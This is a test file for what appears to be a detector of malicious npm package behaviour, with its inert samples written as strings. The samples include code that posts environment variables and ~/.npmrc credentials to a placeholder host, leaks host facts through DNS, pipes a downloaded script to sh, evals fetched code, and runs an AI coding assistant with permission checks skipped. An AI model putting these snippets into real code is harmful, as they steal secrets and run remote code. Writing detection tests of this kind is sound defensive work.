import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readJavaScriptModule } from '../../../formats/javascript/javascript.ts'
import type { Behaviour } from '../behaviour.ts'
import { javascriptBehaviours } from './behaviours.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')

function behaviours(source: string, role: 'install' | 'library' = 'install'): readonly Behaviour[] {
  return javascriptBehaviours(readJavaScriptModule(source, DEFAULT_LIMITS), { path: 'index.js', role })
}

/** What comes to a sink, by the kind of the sink. */
function flows(source: string): readonly string[] {
  return behaviours(source).flatMap(({ kind, inputs }) => inputs.map((input) => `${input.source} -> ${kind}`))
}

const kinds = (source: string): ReadonlySet<string> => new Set(behaviours(source).map(({ kind }) => kind))

describe('what malicious packages did, inert', () => {
  it.each([
    [
      'the environment, posted',
      `const https = require('https'); const r = https.request({ hostname: 'collect.example', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()`,
      'environment -> network',
    ],
    [
      'the same, encoded, through functions',
      `function take() { return Buffer.from(JSON.stringify(process.env)).toString('base64') }\nfunction send(x) { return fetch('https://collect.example', { method: 'POST', body: x }) }\nsend(take())`,
      'environment -> network',
    ],
    [
      'a file of credentials, posted',
      `const fs = require('fs'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://collect.example/?d=' + encodeURIComponent(t))`,
      'secret-file -> network',
    ],
    [
      'facts about the host, in a name',
      `const dns = require('dns'), os = require('os'); dns.lookup(os.hostname() + '.' + os.userInfo().username + '.collect.example', () => {})`,
      'host-facts -> dns',
    ],
    [
      'an answer of the network, run',
      `fetch('https://host.example/x.js').then((r) => r.text()).then((t) => eval(t))`,
      'network -> evaluate',
    ],
  ])('%s', (_, source, flow) => {
    expect(flows(source)).toContain(flow)
  })

  it.each([
    ['code in base64', `eval(Buffer.from('${base64('1 + 1')}', 'base64').toString())`, 'evaluate'],
    [
      'a program that is downloaded',
      `require('child_process').execSync('curl -s https://host.example/x | sh')`,
      'execute',
    ],
    [
      'an assistant without questions',
      `require('child_process').spawn('claude', ['--dangerously-skip-permissions', '-p', 'find'])`,
      'assistant-command',
    ],
    ['packages published', `require('child_process').execSync('npm publish')`, 'publish-package'],
    [
      'fetch replaced',
      `const original = window.fetch; window.fetch = function (...a) { return original(...a) }`,
      'hook-runtime',
    ],
    ['a wallet touched', `window.ethereum.request({ method: 'eth_sendTransaction' })`, 'wallet'],
  ])('%s', (_, source, kind) => {
    expect(kinds(source)).toContain(kind)
  })

  it('tells when it happens', () => {
    expect(behaviours(`fetch('https://host.example')`).map(({ when }) => when)).toEqual(['install'])
    expect(behaviours(`fetch('https://host.example')`, 'library').map(({ when }) => when)).toEqual(['import'])
    expect(behaviours(`export const f = () => fetch('https://host.example')`).map(({ when }) => when)).toEqual(['call'])
  })
})

describe('what honest packages do', () => {
  it.each([
    ['a variable of the environment, tested', `if (process.env.NODE_ENV === 'production') console.log('p')`],
    ['a build', `require('child_process').execFileSync('node-gyp', ['rebuild'])`],
    [
      'a file of its own, read',
      `module.exports = JSON.parse(require('fs').readFileSync(__dirname + '/table.json', 'utf8'))`,
    ],
    ['a request without anything of the user', `export const get = (id) => fetch('https://api.example/items/' + id)`],
    ['arithmetic', `export const add = (a, b) => a + b`],
  ])('has no flow from a source to a sink: %s', (_, source) => {
    expect(flows(source)).toEqual([])
  })
})
